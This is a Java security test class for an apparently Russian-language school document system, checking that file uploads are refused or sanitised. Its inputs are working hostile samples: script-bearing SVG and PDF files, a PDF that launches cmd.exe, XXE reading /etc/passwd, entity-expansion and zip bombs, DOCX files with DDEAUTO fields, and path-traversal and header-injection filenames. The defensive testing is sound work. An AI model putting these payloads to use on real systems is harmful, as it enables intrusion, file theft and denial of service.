package org.nastavnik.attack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.nastavnik.Visitor;

/** Files made to harm whoever takes them, keeps them or opens them. */
class UploadAttackTest extends AttackTest {

    private static final int LARGEST = 20 * 1024 * 1024;
    private static final Pattern RUSSIAN = Pattern.compile("[А-яё]{4,}");

    private final Listener listener = new Listener();
    private Visitor curator;
    private String page;
    private String token;

    @BeforeEach
    void issueAnOrder() {
        page = "/documents/act/" + issuedOrder("pedagog3");
        curator = as("kurator");
        token = curator.token(page);
    }

    @AfterEach
    void nobodyFetchedAnything() {
        listener.close();
        assertThat(listener.requests()).isEmpty();
    }

    @TestFactory
    Stream<DynamicTest> hostileCopiesAreRefusedInWords() {
        var leak = listener.address();
        var files = new LinkedHashMap<String, byte[]>();
        files.put("nothing", new byte[0]);
        files.put("a page", "<html><script>alert(1)</script>".getBytes(StandardCharsets.UTF_8));
        files.put(
                "a picture of lines with a script",
                "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"
                        .getBytes(StandardCharsets.UTF_8));
        files.put("a picture too large", HostileFiles.png(30_000, 30_000));
        files.put("a picture with lines too long", HostileFiles.png(70_000_000, 1));
        files.put("a JPEG in passes too large", HostileFiles.progressiveJpeg(6_000, 6_000));
        files.put("a JPEG of many passes", HostileFiles.manyPasses(HostileFiles.progressiveJpeg(800, 800), 3_000));
        files.put("a PDF with a script", HostileFiles.pdf("/OpenAction 4 0 R", "<</S/JavaScript/JS(app.alert(1))>>"));
        files.put(
                "a PDF with a script by name",
                HostileFiles.pdf("/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", "<</S/JavaScript/JS(app.alert(1))>>"));
        files.put(
                "a PDF with a script behind another action",
                HostileFiles.pdf(
                        "/OpenAction 4 0 R", "<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>", "<</S/#4aavaScript/#4aS(1)>>"));
        files.put("a PDF that starts a program", HostileFiles.pdf("/AA<</O 4 0 R>>", "<</S/Launch/F(cmd.exe)>>"));
        files.put(
                "a PDF with a file within",
                HostileFiles.pdf(
                        "/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>", "<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>"));
        files.put(
                "a PDF form that sends itself",
                HostileFiles.pdf("/OpenAction 4 0 R", "<</S/SubmitForm/F(" + leak + ")>>"));
        files.put(
                "a DOCX of outside declarations",
                HostileFiles.docx("<!DOCTYPE a [<!ENTITY leak SYSTEM \"" + leak + "\">]>", Map.of()));
        files.put(
                "a DOCX of multiplying declarations",
                HostileFiles.docx(
                        "<!DOCTYPE a [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">"
                                + "<!ENTITY leak \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>",
                        Map.of()));
        files.put(
                "a DOCX with a template elsewhere",
                HostileFiles.docx(
                        Map.of("word/_rels/settings.xml.rels", HostileFiles.outside("attachedTemplate", leak))));
        files.put(
                "a DOCX with a picture elsewhere",
                HostileFiles.docx(Map.of("word/_rels/document.xml.rels", HostileFiles.outside("image", leak))));
        files.put("a DOCX with a macro", HostileFiles.docx(Map.of("word/vbaProject.bin", "x")));
        files.put("a DOCX with a program", HostileFiles.docx(Map.of("word/embeddings/oleObject1.bin", "x")));
        files.put("a DOCX with a page", HostileFiles.docx(Map.of("word/afchunk.html", "<script>alert(1)</script>")));
        files.putAll(documentsThatFetchOrRun(leak));
        files.put("an archive in an archive", HostileFiles.zip(Map.of("a.zip", "PK")));
        files.put(
                "a DOCX that unpacks into too much",
                HostileFiles.docx(Map.of("word/media/a.xml", "x".repeat(210_000_000))));
        return files.entrySet().stream()
                .map(file -> dynamicTest(file.getKey(), () -> {
                    changesNothing(() -> refusedInWords(file.getValue()));
                }));
    }

    private static Map<String, byte[]> documentsThatFetchOrRun(String leak) {
        var files = new LinkedHashMap<String, byte[]>();
        files.put(
                "a DOCX with a template elsewhere by another case",
                HostileFiles.docx(
                        Map.of("word/_rels/document.xml.RELS", HostileFiles.outside("attachedTemplate", leak))));
        files.put("a DOCX with a macro by another case", HostileFiles.docx(Map.of("word/VBAPROJECT.Bin", "x")));
        files.put("a DOCX with a program by another case", HostileFiles.docx(Map.of("word/EMBEDDINGS/a.dat", "x")));
        for (var type : List.of(
                "text/HTML",
                "application/xhtml+xml",
                "message/rfc822",
                "multipart/related",
                "application/rtf",
                "application/vnd.ms-office.vbaProject",
                "application/vnd.ms-word.document.macroEnabled.main+xml",
                "application/vnd.openxmlformats-officedocument.oleObject")) {
            files.put("a DOCX with a part of type " + type, HostileFiles.docxWithPart("word/part.dat", type));
        }
        for (var type : List.of("aFChunk", "oleObject", "package", "subDocument")) {
            files.put(
                    "a DOCX with a part as " + type,
                    HostileFiles.docx(Map.of("word/_rels/document.xml.rels", HostileFiles.within(type, "part.dat"))));
        }
        files.put("a DOCX with a chunk", HostileFiles.docxOf("<w:altChunk/>"));
        for (var code : List.of(
                "DDE excel a b",
                "ddeauto c:\\\\windows\\\\system32\\\\cmd.exe",
                "INCLUDEPICTURE \"" + leak + "\"",
                "INCLUDETEXT\"" + leak + "\"",
                "LINK Excel.Sheet.8 a",
                "RD " + leak,
                "IMPORT " + leak,
                "DATABASE \\d a")) {
            var word = code.split("\\W")[0];
            files.put("a DOCX with the field " + word, HostileFiles.docxOf(HostileFiles.field(" " + code)));
            files.put(
                    "a DOCX with the simple field " + word,
                    HostileFiles.docxOf(
                            "<w:p><w:fldSimple w:instr=' " + code + "'><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"));
            files.put(
                    "a DOCX with the field in pieces " + word,
                    HostileFiles.docxOf(HostileFiles.field(" ", code.substring(0, 1), code.substring(1))));
        }
        files.put(
                "a DOCX with a field within a field",
                HostileFiles.docxOf("<w:p>"
                        + HostileFiles.fieldOfRuns("<w:r><w:instrText> IF 1 = </w:instrText></w:r>"
                                + HostileFiles.fieldOfRuns("<w:r><w:instrText>DDEAUTO a b</w:instrText></w:r>"))
                        + "</w:p>"));
        files.put(
                "a DOCX with a field named by a field",
                HostileFiles.docxOf("<w:p>"
                        + HostileFiles.fieldOfRuns(
                                HostileFiles.fieldOfRuns("<w:r><w:instrText>QUOTE 68</w:instrText></w:r>")
                                        .replace("<w:t>1</w:t>", "<w:t>DDEAUTO a b</w:t>"))
                        + "</w:p>"));
        files.put(
                "a DOCX with a field without marks",
                HostileFiles.docxOf("<w:p><w:r><w:instrText>DDE</w:instrText></w:r>"
                        + "<w:r><w:instrText>AUTO a b</w:instrText></w:r></w:p>"));
        files.put(
                "a DOCX with a field without end",
                HostileFiles.docxOf("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
                        + "<w:r><w:instrText>DDEAUTO a b</w:instrText></w:r></w:p>"));
        files.put(
                "a DOCX with a field at the head of a page",
                HostileFiles.docx(Map.of(
                        "word/header1.XML", HostileFiles.document(HostileFiles.field("INCLUDEPICTURE " + leak)))));
        return files;
    }

    @Test
    void honestFilesAreTakenStill() {
        for (var file : List.of(
                HostileFiles.pdf("/OpenAction 4 0 R", "<</S/GoTo/D[3 0 R/Fit]>>"),
                HostileFiles.pdf("/Names 4 0 R", "<</S/URI/URI(https://sad.example.ru)>>"),
                HostileFiles.progressiveJpeg(2_000, 3_000),
                HostileFiles.docxOf(HostileFiles.field(" PAGE ")
                        + HostileFiles.field(" NUMPAGES \\* MERGEFORMAT ")
                        + HostileFiles.field(" DATE \\@ \"dd.MM.yyyy\" ")
                        + HostileFiles.field(" TOC \\o \"1-3\" \\h \\z ")
                        + HostileFiles.field(" HYPERLINK ", "\\l \"LINK\" ")
                        + "<w:p><w:r><w:t>DDEAUTO</w:t></w:r><w:fldSimple w:instr=\" PAGE \"/></w:p>"),
                HostileFiles.docx(Map.of(
                        "word/_rels/document.xml.rels", HostileFiles.outside("hyperlink", "https://sad.example.ru"),
                        "word/_rels/settings.xml.rels",
                                HostileFiles.outside("attachedTemplate", "file:///C:/Users/a/Normal.dotm"))))) {
            curator.upload(page + "/copies", "a", "application/octet-stream", file, token);
        }
        assertThat(jdbc.queryForObject("select count(*) from signed_copy", Long.class))
                .isEqualTo(5);
    }

    @Test
    void aFileTooLargeIsRefusedInWords() {
        changesNothing(() -> {
            for (var size : List.of(LARGEST + 1, 2 * LARGEST)) {
                var answer = curator.upload(page + "/copies", "a.pdf", "application/pdf", new byte[size], token);
                assertThat(answer.statusCode()).isEqualTo(413);
                assertThat(answer.body()).matches(RUSSIAN.asPredicate()).contains("href=\"" + page + "\"");
            }
        });
    }

    @Test
    void namesLeadNowhereAndShowNothingButThemselves() throws IOException {
        var names = List.of(
                "../../../../tmp/leaked.pdf",
                "..\\\\..\\\\windows\\\\leaked.pdf",
                "/etc/leaked.pdf",
                "C:\\\\leaked.pdf",
                "leaked\u0001.exe.pdf",
                "leaked\u202Efdp.exe",
                "я".repeat(200) + ".pdf",
                "CON.pdf",
                "lpt1",
                "nul.tar.pdf",
                ".htaccess",
                "....pdf",
                "<img src=x onerror=alert(1)>.pdf",
                "leaked%22%0d%0aSet-Cookie:a=b.pdf",
                "leaked';filename*=UTF-8''evil.exe",
                "${7*7}#{7*7}{{7*7}}.pdf");
        for (var number = 0; number < names.size(); number++) {
            curator.upload(page + "/copies", names.get(number), "text/html", scan("Скан " + number), token);
        }

        var kept = jdbc.queryForList("select file_name from signed_copy", String.class);
        assertThat(kept)
                .hasSize(names.size())
                .allSatisfy(name -> assertThat(name)
                        .matches("[\\p{L}\\p{N} ._№«»()-]{1,130}\\.pdf")
                        .doesNotContain("..", "/", "\\")
                        .doesNotMatch("(?i)(con|lpt1|nul)\\b.*"));
        assertThat(Files.exists(Path.of("/tmp/leaked.pdf"))).isFalse();
        assertThat(Files.exists(Path.of("/etc/leaked.pdf"))).isFalse();
        assertThat(curator.get(page).body()).doesNotContain("<img src=x");
    }

    @Test
    void aNameWithoutEndIsRefused() {
        changesNothing(() -> {
            var answer = curator.upload(
                    page + "/copies", "я".repeat(4_000) + ".pdf", "application/pdf", scan("Скан"), token);
            assertThat(answer.statusCode()).as(answer.body()).isIn(400, 403, 413);
            assertThat(answer.body()).containsPattern(RUSSIAN);
        });
    }

    @Test
    void whatIsGivenBackIsAFileAndNeverAPage() {
        var page = "%PDF-1.4\n<html><script>alert(1)</script></html>\n";
        var polyglot = new String(scan("Скан"), StandardCharsets.ISO_8859_1).replaceFirst("%PDF-1\\.\\d\n", page);
        curator.upload(this.page + "/copies", "a.html", "text/html", scan("Скан"), token);
        curator.upload(
                this.page + "/copies", "b.html", "text/html", polyglot.getBytes(StandardCharsets.ISO_8859_1), token);
        for (var copy : jdbc.queryForList("select id from signed_copy", Long.class)) {
            fixed(curator, "/documents/copies/" + copy, "application/pdf");
        }
        fixed(curator, this.page + ".pdf", "application/pdf");
        fixed(curator, this.page + ".docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document");
        fixed(as("zaved"), "/documents/years/" + YEAR + "/folder.zip", "application/zip");
        fixed(
                as("zaved"),
                "/staff/import/template",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    }

    @TestFactory
    Stream<DynamicTest> hostileStaffFilesAreRefusedInWords() {
        var head = as("zaved");
        var leak = listener.address();
        var files = new LinkedHashMap<String, byte[]>();
        files.put(
                "outside declarations",
                HostileFiles.xlsx("<!DOCTYPE a [<!ENTITY leak SYSTEM \"" + leak + "\">]>", "&leak;", ""));
        files.put(
                "declarations of files",
                HostileFiles.xlsx("<!DOCTYPE a [<!ENTITY leak SYSTEM \"file:///etc/passwd\">]>", "&leak;", ""));
        files.put(
                "multiplying declarations",
                HostileFiles.xlsx(
                        "<!DOCTYPE a [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">"
                                + "<!ENTITY leak \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>",
                        "&leak;",
                        ""));
        files.put("a cell that unpacks into too much", HostileFiles.xlsx("", "x".repeat(60_000_000), ""));
        files.put("styles that unpack into too much", HostileFiles.xlsx("", "x", "<font/>".repeat(5_000_000)));
        files.put("a long cell", HostileFiles.xlsx("", randomLetters(3_000_000), ""));
        files.put("text in place of a table", "PK\u0003\u0004 no archive".getBytes(StandardCharsets.ISO_8859_1));
        files.put("nothing", new byte[0]);
        files.put("too much", new byte[6_000_000]);
        return files.entrySet().stream()
                .map(file -> dynamicTest(file.getKey(), () -> {
                    changesNothing(() -> {
                        var answer = head.upload(
                                "/staff/import", "../a.csv", "text/csv", file.getValue(), head.token("/staff/import"));
                        assertThat(answer.statusCode()).isEqualTo(200);
                        assertThat(answer.body()).doesNotContain("root:").hasSizeLessThan(100_000);
                        assertThat(answer.body()).matches(RUSSIAN.asPredicate());
                    });
                }));
    }

    private void refusedInWords(byte[] content) {
        var answer = curator.upload(page + "/copies", "a.pdf", "application/pdf", content, token);
        assertThat(answer.statusCode()).isEqualTo(302);
        assertThat(curator.get(page).body()).containsPattern("role=\"alert\">[^<]*[А-яё]{4,}");
    }

    private static void fixed(Visitor reader, String path, String type) {
        var headers = reader.download(path).headers();
        assertThat(headers.firstValue("Content-Type")).as(path).hasValue(type);
        assertThat(headers.firstValue("X-Content-Type-Options")).as(path).hasValue("nosniff");
        assertThat(headers.firstValue("Content-Disposition"))
                .as(path)
                .hasValueSatisfying(how -> assertThat(how).startsWith("attachment"));
    }

    /** What hardly shrinks when packed. */
    private static String randomLetters(int count) {
        var random = new Random(1);
        var letters = new StringBuilder(count);
        for (var index = 0; index < count; index++) {
            letters.append((char) ('а' + random.nextInt(32)));
        }
        return letters.toString();
    }
}
